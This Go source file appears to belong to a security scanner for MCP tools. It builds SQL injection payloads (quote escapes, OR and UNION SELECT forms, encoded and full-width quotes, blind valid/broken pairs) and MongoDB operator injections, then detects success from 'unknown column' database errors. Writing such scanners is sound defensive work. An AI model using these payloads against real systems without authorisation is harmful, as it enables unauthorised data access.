package attack

import (
	"cmp"
	"encoding/json"
	"slices"
	"strconv"
	"strings"

	"github.com/mcpaudit/mcpaudit/runner/inputs"
	"github.com/mcpaudit/mcpaudit/runner/lazyregexp"
)

// queryForms are the ways to leave a string of a statement in SQL. The first leaves none, and
// shows where honest values stand. What is joined is valid in every clause.
var queryForms = []form{
	asked("as a name", "!").plainly(),
	asked("joined behind a single quote", "{}'||!||'"),
	told("a comparison that is read, behind a single quote", "{}' or 'a'='a", false), told("a comparison that cannot be read, behind a single quote", "{}' 'a' or='a", true),
	told("another comparison that is read, behind a single quote", "{}' and 'b'='b", false), told("another comparison that cannot be read, behind a single quote", "{}' 'b' and='b", true),
	asked("behind a single quote", "{}' OR ! --"),
	asked("behind a single quote, without a comment", "{}' OR ! OR '"),
	asked("behind a double quote", `{}" OR ! --`),
	asked("behind a backslash and a single quote", `{}\' OR ! --`),
	asked("behind a bracket and a single quote", "{}') OR ! --"),
	asked("behind a backtick", "{}` OR ! --"),
	asked("as a condition behind a table in double quotes", `{}" WHERE ! --`),
	asked("as a condition behind a table in backticks", "{}` WHERE ! --"),
	asked("as a condition behind a table in brackets", "{}] WHERE ! --"),
	asked("behind a single quote, without a blank", "{}'/**/OR/**/!--"),
	asked("behind a single quote in full width", "{}＇ OR ! --"),
	asked("behind an encoded single quote", "{}%27 OR ! --"),
	asked("joined behind a double quote", `{}"||!||"`),
	asked("behind the bracket of a filter", "{})(!=1"),
	united(1), united(2), united(3), united(4), united(5), united(6), united(7), united(8),
}

// likeliest is the number of forms for a tool without signs of a database. They use words that SQL has in common with
// XPath and other query languages.
const likeliest = 6

// behindNumber follows a number, without quotes to leave.
var behindNumber = form{name: "behind a number", raw: true, write: func(f field, m inputs.Mark, _ int) string {
	return f.plainly(m) + " OR " + m.ID()
}}

// plainly returns the honest value for a position without quotes; for a number without one, 1.
func (f field) plainly(m inputs.Mark) string {
	if f.numbers() {
		return cmp.Or(f.core(), "1")
	}
	return f.honest(m)
}

// rawForms are for values without quotes: the names of columns, directions and numbers. A guard that checks
// names refuses the "-" of the mark.
var rawForms = []form{
	asked("behind a comma, in no quotes", "{} , !").unquoted(),
	asked("behind a direction, in no quotes", "{} DESC, !").unquoted(),
	asked("behind OR, in no quotes", "{} OR !").unquoted(),
	selected("a value that is read, behind a comma", "{} , (SELECT 7 ORDER BY 1)", false), selected("a value that cannot be read, behind a comma", "{} , (SELECT ORDER 7 BY 1)", true),
	selected("another value that is read, behind a comma", "{} , (SELECT 8 ORDER BY 1)", false), selected("another value that cannot be read, behind a comma", "{} , (ORDER SELECT BY 8 1)", true),
}

// keyForm is for an object that takes any keys, which may be the names of columns: the payload is the key.
var keyForm = form{name: "as a key, in no quotes", raw: true, key: true, write: func(_ field, m inputs.Mark, _ int) string { return m.ID() }}

// keyed returns the field of another key in the same object, with the name of the object.
func (f field) keyed(key string) field {
	f.name, f.steps = above(f.name), append(slices.Clone(f.steps[:len(f.steps)-1]), key)
	return f
}

// keys returns one field of each object that takes any keys.
func keys(fields []field) (found []field) {
	for _, f := range fields {
		within := func(other field) bool { return above(other.name) == above(f.name) }
		if _, isKey := f.steps[len(f.steps)-1].(string); isKey && f.free && !slices.ContainsFunc(found, within) {
			found = append(found, f)
		}
	}
	return found
}

// numberForms are for numbers.
var numberForms = []form{
	behindNumber,
	selected("a number that is read", "{} + (SELECT 0 ORDER BY 1)", false), selected("a number that cannot be read", "{} + (SELECT ORDER 0 BY 1)", true),
	selected("another number that is read", "{} - (SELECT 0 ORDER BY 1)", false), selected("another number that cannot be read", "{} - (ORDER SELECT BY 0 1)", true),
	added(1), added(2), added(3), added(4), added(5), added(6), added(7), added(8),
}

// Parse marks attempts that detect SQL without error messages: a server that accepts valid SQL,
// and refuses the same words in an invalid order, passes them to a database.
type Parse string

// The sorts of such attempts.
const (
	ParseValid  Parse = "Valid"
	ParseBroken Parse = "Broken"
)

func (f form) unquoted() form { f.raw = true; return f }

// told returns a form that leaves a string, and is otherwise like selected.
func told(name, pattern string, broken bool) form {
	f := selected(name, pattern, broken)
	f.quoted = true
	return f
}

func selected(name, pattern string, broken bool) form {
	f := asked(name, pattern)
	f.parse = ParseValid
	if broken {
		f.parse = ParseBroken
	}
	f.write = func(at field, m inputs.Mark, _ int) string {
		return at.before + strings.Replace(pattern, "{}", at.plainly(m), 1) + at.behind
	}
	return f
}

// united is a form that adds a row of so many columns, each with the mark as character codes, which only SQLite
// turns into the mark.
func united(columns int) form {
	return form{name: "with a row added behind a single quote", write: func(f field, m inputs.Mark, _ int) string {
		return f.before + f.honest(m) + "'" + union(m, columns) + f.behind
	}}
}

// added is the same where numbers stand.
func added(columns int) form {
	return form{name: "with a row added behind a number", write: func(f field, m inputs.Mark, _ int) string {
		return f.before + f.plainly(m) + union(m, columns) + f.behind
	}}
}

func union(m inputs.Mark, columns int) string {
	codes := make([]string, len(m.ID()))
	for i, letter := range []byte(m.ID()) {
		codes[i] = strconv.Itoa(int(letter))
	}
	column := "char(" + strings.Join(codes, ",") + ")"
	return " UNION SELECT " + strings.Join(slices.Repeat([]string{column}, columns), ",") + " --"
}

// asked is a form with a pattern, in which "{}" stands for the honest value, "!" for the mark.
func asked(name, pattern string) form {
	return form{name: name, write: func(f field, m inputs.Mark, _ int) string {
		return f.before + strings.NewReplacer("{}", f.honest(m), "!", m.ID()).Replace(pattern) + f.behind
	}}
}

const maxQueryFields = 4 // of one target

// querySteps returns the attempts of family Query, all of them only for targets that may use a database.
func querySteps(fields []field, seen Seen, said string) (all []step) {
	forms, numbers, raw := queryForms, numberForms, rawForms
	if !seen.Network && !seen.Database && !ofDatabase.MatchString(said) {
		forms, numbers, raw = forms[:likeliest], numbers[:1], nil
	}
	fields = slices.DeleteFunc(slices.Clone(fields), func(f field) bool { return f.next || statementLike.MatchString(f.value) })
	texts := slices.DeleteFunc(slices.Clone(fields), func(f field) bool { return !f.text && !f.choice })
	slices.SortStableFunc(texts, func(a, b field) int { return cmp.Compare(choices(a), choices(b)) })
	texts = texts[:min(len(texts), maxQueryFields)]
	quoted := slices.DeleteFunc(formed(Query, forms, texts), func(s step) bool { return s.form.quoted && s.field.takesSQL() })
	number := slices.DeleteFunc(slices.Clone(fields), func(f field) bool { return !f.numbers() })
	names := slices.DeleteFunc(slices.Clone(texts), func(f field) bool { return f.takesSQL() || f.numbers() })
	all = alternate(formed(Query, []form{keyForm}, keys(fields)), quoted, formed(Query, numbers, number[:min(len(number), maxQueryFields)]), formed(Query, raw, names))
	if !seen.asksMongo(said) {
		return all
	}
	values := slices.DeleteFunc(slices.Clone(texts), func(f field) bool {
		return !f.onlyText || f.item || slices.Contains(f.steps, any(inJSON{})) || json.Valid([]byte(f.value)) && !f.numbers()
	})
	return append(formed(Query, operatorForms, values), all...)
}

// asksMongo reports whether a capability uses MongoDB, or says so.
func (s Seen) asksMongo(said string) bool {
	return slices.Contains(s.Ports, mongoPort) || ofMongo.MatchString(said)
}

const mongoPort = 27017

var ofMongo = lazyregexp.New(`(?i)mongo`)

// operatorForms are objects with an operator of MongoDB in place of a text.
var operatorForms = []form{operated("$ne"), operated("$gt")}

func operated(operator string) form {
	return form{name: "as an object with the operator " + operator, object: true, write: func(_ field, m inputs.Mark, _ int) string {
		return `{"` + operator + `":"` + m.ID() + `"}`
	}}
}

// choices ranks free texts before choices.
func choices(f field) int {
	if f.choice {
		return 1
	}
	return 0
}

// numbers reports whether a field takes numbers only, by its type or its name.
func (f field) numbers() bool {
	_, err := strconv.ParseInt(f.value, 10, 64)
	return err == nil && forNumber.MatchString(f.name) || f.number
}

// forNumber matches names of numbers that may be declared as texts.
var forNumber = lazyregexp.New(`(?i)(?:^|[_.-])(?:id|number|limit|offset|page|year)$|[a-z](?:Id|Number)$`)

// ofDatabase matches descriptions of tools that use a database.
var ofDatabase = lazyregexp.New(`(?i)\bsql|sqlite|\bdatabases?\b|\bdb\b|\btables?\b|\brecords?\b|\brows?\b|\bquer(?:y|ies)\b`)

// ParsedAlone is Parsed for a mark that is not quoted in any case: the "-" in it was parsed, too.
func ParsedAlone(answer string) bool {
	for _, at := range unknownColumn.FindAllStringIndex(answer, maxFields) {
		if !strings.HasPrefix(answer[at[1]:], "-") {
			return true
		}
	}
	return false
}

// Parsed reports whether an answer shows that the database took the word of a mark for the name of a
// column, so that it was not quoted.
func Parsed(answer string) bool { return unknownColumn.MatchString(answer) }

// unknownColumn matches the errors of SQLite, PostgreSQL, MySQL, SQL Server, DuckDB and Oracle about an unknown column.
var unknownColumn = lazyregexp.New(strings.ReplaceAll("(?i)no such column:? [`\"']?W\\b|column [`\"']W[`\"'] (?:does not exist|not found)|"+
	"unknown column [`\"']W[`\"']|invalid column name 'W'|\"W\": invalid identifier", "W", inputs.Word))
